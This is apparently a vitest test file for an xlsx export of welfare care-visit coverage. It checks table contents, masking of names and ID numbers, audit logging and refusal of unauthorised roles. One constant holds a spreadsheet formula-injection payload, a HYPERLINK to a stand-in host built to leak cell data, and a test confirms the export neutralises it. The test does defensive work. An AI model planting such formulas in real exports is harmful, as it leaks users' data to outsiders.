import type { DbKind } from '../../db'
import type { NewVisit } from '../../db/repos/visits'
import type { TestClient } from '../../testing'
import type { TestApp } from '../applications/test-builders'
import { randomUUID } from 'node:crypto'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DEMO_HOUSEHOLDS } from '../../../mock/demo-data'
import { quarterOf } from '../../../src/domain/quarter'
import { shanghaiToday } from '../../../src/domain/time'
import { insertVisitOnce } from '../../db/repos/visits'
import { allText, readXlsx, records, savedFileName } from '../../services/staff/xlsx-test-support'
import { createTestApp, TEST_DIALECTS } from '../../testing'
import { residentOf, staffClient } from '../applications/test-builders'

/** A fresh seeded database and a few sign-ins: slow on a busy machine (password hashing). */
const SETUP_TIMEOUT_MS = 60_000
const EVIL_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")'

/** A date cell as its Beijing day (exceljs reads Excel days as UTC midnight). */
const day = (value: unknown) => (value instanceof Date ? value.toISOString().slice(0, 10) : value)

describe.each(TEST_DIALECTS)('coverage export on %s', (kind: DbKind) => {
  let t: TestApp
  let town: TestClient
  let county: TestClient
  const quarter = quarterOf(shanghaiToday(new Date()))

  beforeAll(async () => {
    t = await createTestApp(kind)
    town = await staffClient(t, 'town')
    county = await staffClient(t, 'county')
    // A volunteer typed a note that a spreadsheet would run as a formula.
    const household = await t.db.kysely.selectFrom('households').select('id').where('registry_ref', '=', 'DEMO-TY-002').executeTakeFirstOrThrow()
    const visitor = await t.db.kysely.selectFrom('users').select('id').where('username', '=', 'volunteer').executeTakeFirstOrThrow()
    const id = randomUUID()
    const at = new Date().toISOString()
    const row: NewVisit = { id, client_id: id, household_id: household.id, visitor_id: visitor.id, visitor_role: 'volunteer', organisation: '@和美村志愿服务队', type: 'care', visited_at: at, observations: '[]', urgent: 1, urgent_note: EVIL_NOTE, notes: '', photo: null, location: null, accuracy: null, created_at: at, flag_resolved_at: null, flag_resolved_by: null }
    await insertVisitOnce(t.db.kysely, row)
  }, SETUP_TIMEOUT_MS)
  afterAll(async () => {
    await t.close()
  })

  it('should export the page\'s four tables with the same figures and households as the page', async () => {
    const page = (await town.get(`/api/staff/visits/coverage?quarter=${quarter}`)).json()
    const flags = (await town.get('/api/staff/visits/flags')).json().flags
    const res = await town.get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)
    const [villages, urgent, notVisited, left] = await readXlsx(res)
    expect([villages.name, urgent.name, notVisited.name, left.name]).toEqual(['各村探访情况', '紧急情况', '90天未探访', '退出救助仍需探访'])

    expect(records(villages).slice(0, -1)).toEqual(page.villages.map((v: { name: string, households: number, visited: number, percent: number }) => ({ '村（社区）': v.name, '登记户数': v.households, '已探访户数': v.visited, '探访率': v.percent / 100 })))
    const households = page.villages.reduce((s: number, v: { households: number }) => s + v.households, 0)
    expect(records(villages).at(-1)).toMatchObject({ '村（社区）': '安乐镇合计', '登记户数': households })
    expect(villages.rows[0][3].numFmt).toBe('0.0%')

    expect(records(urgent).map(r => [r['村（社区）'], r['户主'], day(r['探访日期']), r['探访人'], r['状态']])).toEqual(flags.map((f: { villageName: string, maskedHeadName: string, visitedAt: string, visitorName: string, resolvedAt: string | null }) => [
      f.villageName,
      f.maskedHeadName,
      shanghaiToday(new Date(f.visitedAt)),
      f.visitorName,
      f.resolvedAt === null ? '待处理' : '已处理',
    ]))
    expect(records(notVisited).map(r => [r['户主'], r['村（社区）'], day(r['上次探访'])])).toEqual(page.notVisited90Days.map((h: { maskedHeadName: string, villageName: string, lastVisitedAt: string | null }) => [
      h.maskedHeadName,
      h.villageName,
      h.lastVisitedAt ? shanghaiToday(new Date(h.lastVisitedAt)) : '从未探访',
    ]))
    expect(left.rows).toEqual([])
    expect(savedFileName(res)).toBe(`探访覆盖-安乐镇-${quarter}-${shanghaiToday(new Date())}.xlsx`)
    expect(res.headers['cache-control']).toBe('no-store')
  })

  it('should name households masked only, never a full name or ID number', async () => {
    const text = allText(await readXlsx(await county.get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)))
    for (const member of DEMO_HOUSEHOLDS.flatMap(h => h.members)) {
      expect(text).not.toContain(member.name)
      expect(text).not.toContain(member.idNumber)
    }
    // The county sees its household that left assistance (the demo's, in 长寿镇).
    expect(text).toContain('孙**')
  })

  it('should write a volunteer\'s formula-looking note and organisation as inert text', async () => {
    const [, urgent] = await readXlsx(await town.get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`))
    const row = urgent.rows.find(r => String(r[5].value).includes('HYPERLINK'))!
    for (const cell of [row[5], row[4]]) {
      expect(cell.type).toBe(ExcelJS.ValueType.String)
      expect(cell.formula).toBeUndefined()
      expect(cell.numFmt).toBe('@')
    }
    expect(row[5].value).toBe(`'${EVIL_NOTE}`)
    expect(row[4].value).toBe('\'@和美村志愿服务队')
  })

  it('should audit the export like a view, and refuse whom the page refuses', async () => {
    await t.db.kysely.deleteFrom('audit_log').where('action', '=', 'visit_coverage_export').execute()
    await town.get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)
    const audit = await t.db.kysely.selectFrom('audit_log').select(['actor_role', 'subject_type', 'subject_id', 'detail']).where('action', '=', 'visit_coverage_export').execute()
    expect(audit).toEqual([{ actor_role: 'town_staff', subject_type: 'area', subject_id: '339901001', detail: expect.stringMatching(new RegExp(`^quarter=${quarter}; villages=2; flags=\\d+; notVisited=\\d+; left=0$`)) }])
    // Care visits are 民政's: 医保 staff, volunteers and residents get no export.
    expect((await (await staffClient(t, 'town_yibao')).get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)).statusCode).toBe(403)
    expect((await (await staffClient(t, 'volunteer')).get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)).statusCode).toBe(403)
    expect((await (await residentOf(t, 'liu')).get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)).statusCode).toBe(403)
    expect((await town.get('/api/staff/visits/coverage/export.xlsx?quarter=2026-Q5')).statusCode).toBe(400)
  })
})
